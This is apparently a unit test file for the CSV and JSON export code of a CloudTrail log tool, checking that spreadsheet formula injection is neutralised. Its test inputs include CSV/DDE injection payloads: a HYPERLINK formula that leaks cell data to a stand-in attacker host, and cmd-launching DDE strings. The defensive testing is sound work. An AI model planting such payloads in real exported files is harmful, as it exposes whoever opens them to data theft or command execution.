import { strict as assert } from 'node:assert';
import {
  CSV_COLUMNS,
  csvField,
  csvHeader,
  csvRow,
  jsonDocumentEnd,
  jsonDocumentItem,
  jsonDocumentStart,
  jsonLine,
  neutralizeFormula,
  rowsToJson,
  rowToJson,
  toCsv,
  toJsonDocument,
  type ExportItem,
} from '../../src/core/events/export';
import { toRow, type CloudTrailRecord } from '../../src/core/events/record';
import { assessRisk } from '../../src/core/events/risk';
import { loadRecords } from '../support/fixtures';

/** A minimal RFC 4180 reader, to check what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"' && field === '') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  assert.equal(field, '', 'document ends with CRLF');
  return rows;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '\u0000=1',
  '\ufeff=1',
];

describe('core/events/export: CSV', () => {
  it('neutralises every formula start, including full-width forms and leading whitespace/control characters', () => {
    for (const value of HOSTILE) {
      const out = neutralizeFormula(value);
      assert.equal(out, `'${value}`, JSON.stringify(value));
    }
    for (const safe of ['DeleteTrail', 'a=b', 'arn:aws:iam::1:user/x', '', ' x', '1-2', "'quoted"]) assert.equal(neutralizeFormula(safe), safe, JSON.stringify(safe));
  });

  it('quotes per RFC 4180: commas, quotes, CR and LF', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('line1\nline2'), '"line1\nline2"');
    assert.equal(csvField('\r=1+1'), `"'\r=1+1"`);
    assert.equal(csvField('=1,2'), `"'=1,2"`);
  });

  it('has a stable header and one CRLF-terminated line per event, round-tripping hostile values', () => {
    assert.equal(
      csvHeader(),
      'eventTime,eventName,eventSource,user,identityType,accessKeyId,sourceIPAddress,userAgent,awsRegion,recipientAccountId,errorCode,errorMessage,readOnly,eventCategory,resources,eventID,risk,riskFlags\r\n',
    );
    const hostileRecord: CloudTrailRecord = {
      eventID: 'id-1',
      eventTime: '2025-01-02T03:04:05Z',
      eventName: '=cmd|"/C calc"!A0',
      eventSource: 'iam.amazonaws.com',
      userAgent: '@SUM(1+1), "quoted"\r\nnext line',
      sourceIPAddress: '-1+1',
      errorMessage: '+danger',
      readOnly: false,
      userIdentity: { type: 'IAMUser', userName: '\t=evil' },
    };
    const item: ExportItem = { row: toRow(hostileRecord, { resources: [{ type: 'AWS::IAM::User', name: '=x' }, { name: 'y,z' }] }), record: hostileRecord };
    const text = toCsv([item]);
    const [header, line] = parseCsv(text);
    assert.equal(header?.length, CSV_COLUMNS.length);
    assert.equal(line?.length, CSV_COLUMNS.length);
    const cell = (name: string): string => line?.[header?.indexOf(name) ?? -1] ?? '<missing>';
    assert.equal(cell('eventTime'), '2025-01-02T03:04:05.000Z');
    assert.equal(cell('eventName'), `'=cmd|"/C calc"!A0`);
    assert.equal(cell('userAgent'), `'@SUM(1+1), "quoted"\r\nnext line`);
    assert.equal(cell('sourceIPAddress'), `'-1+1`);
    assert.equal(cell('user'), `'\t=evil`);
    assert.equal(cell('errorMessage'), `'+danger`);
    assert.equal(cell('resources'), 'AWS::IAM::User =x; y,z');
    assert.equal(cell('readOnly'), 'false');
    for (const value of line ?? []) assert.ok(!/^[\s]*[=+\-@＝＋－＠]/.test(value), `unsafe cell ${JSON.stringify(value)}`);
  });

  it('streams: header + rows equals the whole document; flags fill the risk columns', () => {
    const records = loadRecords('labelled', 'stratus-red-team').slice(0, 40);
    const items: ExportItem[] = records.map(({ record }) => {
      const row = toRow(record);
      return { row, record, flags: assessRisk(row, record) };
    });
    const streamed = csvHeader() + items.map((item) => csvRow(item)).join('');
    assert.equal(streamed, toCsv(items));
    const parsed = parseCsv(streamed);
    assert.equal(parsed.length, items.length + 1);
    const risk = CSV_COLUMNS.findIndex((column) => column.header === 'risk');
    assert.ok(parsed.slice(1).some((line) => line[risk] === 'high'));
  });

  it('never throws on odd rows and records', () => {
    const odd: CloudTrailRecord[] = [{}, { eventTime: 'nope', errorMessage: 42 as unknown as string, userIdentity: [] as unknown as Record<string, unknown> }];
    for (const record of odd) {
      const line = csvRow({ row: toRow(record), record });
      assert.equal(parseCsv(csvHeader() + line)[1]?.length, CSV_COLUMNS.length);
    }
    assert.doesNotThrow(() => csvRow({ row: { ...toRow({}), resources: null as unknown as [] } }));
  });
});

describe('core/events/export: JSON', () => {
  it('writes the CLI --format json document, streamed or whole, and it parses back', () => {
    const records = loadRecords('labelled', 'stratus-red-team').slice(0, 5).map(({ record }) => record);
    const stats = { requests: 3, pages: 2, throttled: 1, elapsedMs: 1234 };
    const streamed = jsonDocumentStart() + records.map((record, i) => jsonDocumentItem(record, i)).join('') + jsonDocumentEnd(stats);
    assert.equal(streamed, toJsonDocument(records, stats));
    assert.deepEqual(JSON.parse(streamed), { events: records, stats });
    assert.deepEqual(JSON.parse(toJsonDocument([])), { events: [], stats: { requests: 0, pages: 0, throttled: 0, elapsedMs: 0 } });
  });

  it('writes JSON Lines, one record per line, with line separators escaped', () => {
    const record = { eventName: 'x\u2028y\u2029z', userAgent: 'a\nb' };
    const line = jsonLine(record);
    assert.equal(line.split('\n').length, 2, 'one line');
    assert.ok(!line.includes('\u2028') && !line.includes('\u2029'));
    assert.deepEqual(JSON.parse(line), record);
    const cyclic: Record<string, unknown> = {};
    cyclic.self = cyclic;
    assert.equal(jsonLine(cyclic), 'null\n', 'never throws');
  });

  it('exports rows with ISO times and their risk flags', () => {
    const record: CloudTrailRecord = { eventID: 'e', eventTime: '2025-01-02T03:04:05Z', eventSource: 'cloudtrail.amazonaws.com', eventName: 'DeleteTrail', userIdentity: { type: 'IAMUser', userName: 'a' } };
    const row = toRow(record);
    const json = rowToJson({ row, flags: assessRisk(row, record) });
    assert.equal(json.time, '2025-01-02T03:04:05.000Z');
    assert.ok(Array.isArray(json.risk) && (json.risk as unknown[]).length > 0);
    const parsed = JSON.parse(rowsToJson([{ row }, { row: toRow({}) }])) as Array<Record<string, unknown>>;
    assert.equal(parsed.length, 2);
    assert.equal(parsed[1]?.time, '', 'unknown time');
  });
});
